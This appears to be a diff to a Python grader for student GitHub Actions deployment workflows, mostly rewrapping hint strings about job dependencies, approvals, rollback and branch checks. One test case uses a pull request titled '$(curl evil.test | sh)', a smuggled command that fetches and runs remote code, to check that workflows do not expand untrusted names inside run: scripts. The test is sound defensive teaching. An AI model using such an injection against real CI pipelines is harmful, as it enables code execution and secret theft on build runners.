@@ -23,18 +23,24 @@ CLOUD = ("register", "staging", "canary", "production", "rollback")
 HINTS = {
     "good": "All targets but rollback, each as a run of its own: test, train, gate, register, "
     "staging, smoke, canary, production. on: push: branches: [main]; jobs wait by needs.",
-    "test": "A job that needs another one is skipped when that fails, unless its if: says always(), "
+    "test": "A job that needs another one is skipped when that fails, unless its if: says "
+    "always(), "
     "failure() or !cancelled().",
-    "train": "What follows make train must not run when it fails: no continue-on-error, no || true, "
+    "train": "What follows make train must not run when it fails: no continue-on-error, no || "
+    "true, "
     "no always().",
-    "gate": "The gate blocks by its exit status: no continue-on-error, no || true; and a rollback in "
+    "gate": "The gate blocks by its exit status: no continue-on-error, no || true; and a rollback "
+    "in "
     "a job of its own with failure() runs here as well.",
     "register": "What is not registered goes nowhere: staging needs the job that registers.",
-    "staging": "Where staging fails, the smoke test and all that follows do not run, and nothing in "
+    "staging": "Where staging fails, the smoke test and all that follows do not run, and nothing "
+    "in "
     "production is rolled back.",
-    "smoke": "make smoke stands before make canary, and blocks it. Production was not touched: there "
+    "smoke": "make smoke stands before make canary, and blocks it. Production was not touched: "
+    "there "
     "is nothing to roll back.",
-    "pull": "on: pull_request starts it, and if: github.ref == 'refs/heads/main' keeps it away from "
+    "pull": "on: pull_request starts it, and if: github.ref == 'refs/heads/main' keeps it away "
+    "from "
     "all jobs but the tests.",
     "pull fails": "Where a test fails, the run ends failed: that is what blocks the merge.",
     "fork": "Its branch is called main too, over there: ask for github.ref, which is "
@@ -44,18 +50,24 @@ HINTS = {
     "hand": "on: workflow_dispatch lets a person start it; on main that is as good as a push.",
     "missing": "The job with make canary and make production has environment: production: that is "
     "where people approve.",
-    "rejected": "Where approval is refused, nothing of production was touched: no rollback. Make the "
+    "rejected": "Where approval is refused, nothing of production was touched: no rollback. Make "
+    "the "
     "rollback a step with if: failure() of that same job.",
-    "own": "The environment refuses whoever asked; your part is that canary, production and rollback "
+    "own": "The environment refuses whoever asked; your part is that canary, production and "
+    "rollback "
     "stand behind it.",
-    "canary": "When make canary fails, make production is skipped by itself, and a last step of the "
+    "canary": "When make canary fails, make production is skipped by itself, and a last step of "
+    "the "
     "same job, if: failure(), runs make rollback.",
     "production": "The step with if: failure() stands behind make production too.",
     "night canary": "The same at night.",
-    "rollback": "A rollback that fails must be seen: the run ends failed, without continue-on-error.",
-    "branch": "Another branch is tested at most: if: github.ref == 'refs/heads/main' at the job that "
+    "rollback": "A rollback that fails must be seen: the run ends failed, without "
+    "continue-on-error.",
+    "branch": "Another branch is tested at most: if: github.ref == 'refs/heads/main' at the job "
+    "that "
     "trains.",
-    "like main": "endsWith(github.ref, 'main') and contains() are true for this branch too: compare "
+    "like main": "endsWith(github.ref, 'main') and contains() are true for this branch too: "
+    "compare "
     "all of github.ref.",
     "hand branch": "Whoever may start it by hand may do so on any branch: ask for the branch.",
     "tag": "github.ref_name is main for a tag called main. github.ref is refs/tags/main: compare "
@@ -223,7 +235,8 @@ def workflow(student: Student, reference: Student, rng: Rng) -> Iterator[Case]:
         "the cloud asks who is there",
         "each job that reaches it shows its own token, and logs in first",
         short_lived,
-        "permissions: id-token: write in each job with register, staging, canary or production, and "
+        "permissions: id-token: write in each job with register, staging, canary or production, "
+        "and "
         "make login as a step before them.",
     )
     yield looked(
@@ -242,7 +255,7 @@ def workflow(student: Student, reference: Student, rng: Rng) -> Iterator[Case]:
         "a pull request is called $(curl evil.test | sh)",
         "its name is not run",
         no_names_in_scripts,
-        "No ${{ }} within run: put it below env:, and write \"$NAME\" in the script.",
+        'No ${{ }} within run: put it below env:, and write "$NAME" in the script.',
     )
     yield looked(
         "a later step reads .git/config",
